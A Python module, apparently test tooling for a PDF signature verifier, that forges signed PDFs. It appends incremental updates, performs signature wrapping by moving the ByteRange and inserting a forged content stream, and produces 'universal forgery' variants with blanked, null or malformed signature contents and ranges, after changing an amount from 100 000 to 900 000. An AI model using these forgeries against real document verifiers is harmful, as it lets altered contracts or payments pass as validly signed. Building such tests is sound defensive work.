"""What an attacker writes byte by byte: updates, moved byte ranges, signatures without a check."""

import io
import re

import pikepdf
from edits import FORGED


def last_startxref(data):
    return int(data[data.rindex(b"startxref") + 9 :].split()[0])


def raw_update(data, objects, *, prev=None, root=None, table=None, size=500, tail=b"", forget=()):
    """An update with a table. `objects` are number and body; `table` are further entries."""
    root = root or re.findall(rb"/Root (\d+) 0 R", data)[-1].decode()
    out = bytearray(data)
    if not data.endswith(b"\n"):
        out += b"\n"
    entries = []
    for number, body in objects:
        if number not in forget:
            entries.append((number, len(out)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    entries += table or []
    at = len(out)
    out += b"xref\n"
    for number, offset in entries:
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<</Size %d/Root %s 0 R" % (size, root.encode())
    if prev != "none":
        out += b"/Prev %d" % (last_startxref(data) if prev is None else prev)
    out += b">>\nstartxref\n%d\n%%%%EOF\n" % at + tail
    return bytes(out)


def stream_body(content, more=b""):
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(content), content)


def content_number(data):
    """Object number of the first page's content."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return pdf.pages[0].obj.Contents.objgen[0]


def signature_parts(data):
    """ByteRange text and numbers of the last signature."""
    found = list(re.finditer(rb"/ByteRange\s*\[([^\]]*)\] *", data))[-1]
    return found, [int(n) for n in found.group(1).split()]


def set_range(data, text):
    found, _ = signature_parts(data)
    old = data[found.start() : found.end()]
    new = b"/ByteRange " + text
    assert len(new) <= len(old), (new, old)
    return data[: found.start()] + new.ljust(len(old)) + data[found.end() :]


def wrap(data):
    """Signature wrapping: the second range is moved back, and an update goes into the gap."""
    _, (a, b, c, d) = signature_parts(data)
    number = content_number(data)
    body = b"%d 0 obj\n%s\nendobj\n" % (number, stream_body(FORGED))
    root = re.findall(rb"/Root (\d+) 0 R", data)[-1]
    table = last_startxref(data)
    # The signature dictionary is closed once more before the forged objects: there stands the
    # range that counts, the signed copy of it moves.
    end = data.index(b"endobj", c) + 6
    close = data[c:end] + b"\n"
    entries = {number: c + len(close)}
    gap = b""
    # What stood behind the contents is moved; the forged table says where it is now.
    for _ in range(3):
        moved = {n: at + len(gap) for n, at in _entries(data, table) if at >= c}
        text = b"".join(
            b"%d 1\n%010d 00000 n \n" % entry for entry in sorted({**entries, **moved}.items())
        )
        # The signed table in the moved part is passed over: its offsets are no longer right.
        older = re.search(rb"/Prev (\d+)", data[table:])[1]
        kept = b"".join(
            b"%d 1\n%010d 00000 n \n" % (n, at)
            for n, at in sorted(_entries(data, table))
            if at < c and n != number
        )
        gap = (
            close
            + body
            + (
                b"xref\n%s%strailer\n<</Size 500/Root %s 0 R/Prev %s>>\nstartxref\n%d\n"
                b"%%%%EOF\n" % (text, kept, root, older, c + len(close + body))
            )
        )
    forged = set_range(data, b"[%d %d %d %d]" % (a, b, c + len(gap), d))
    out = forged[:end] + gap[end - c :] + data[c:]
    return out + b"startxref\n%d\n%%%%EOF\n" % (c + len(close + body))


def _entries(data, table):
    """Number and offset of each entry of a cross-reference table."""
    lines = iter(data[table:].split(b"\n")[1:])
    for line in lines:
        head = re.fullmatch(rb"(\d+) (\d+)\s*", line)
        if not head:
            return
        for number in range(int(head[1]), int(head[1]) + int(head[2])):
            entry = next(lines)
            if entry[17:18] == b"n":
                yield number, int(entry[:10])


def universal(signed, how):
    """Universal forgery: the signature is there, and nothing to check it by."""
    _found, (_a, b, c, _d) = signature_parts(signed)
    contents = signed[b:c]
    changed = signed.replace(b"100 000", b"900 000")
    if how == "no contents":
        return changed[:b] + b" " * len(contents) + changed[c:]
    if how == "empty contents":
        return changed[:b] + b"<>".ljust(len(contents)) + changed[c:]
    if how == "zero contents":
        return changed[:b] + b"<" + b"0" * (len(contents) - 2) + b">" + changed[c:]
    if how == "null contents":
        return changed[:b] + b"null".ljust(len(contents)) + changed[c:]
    return set_range(
        changed,
        {
            "no range": b"[]",
            "zero range": b"[0 0 0 0]",
            "negative range": b"[0 -1 -1 -1]",
            "null range": b"null",
            "short range": b"[0 %d]" % b,
            "huge range": b"[0 99999999 0 0]",
        }[how],
    )
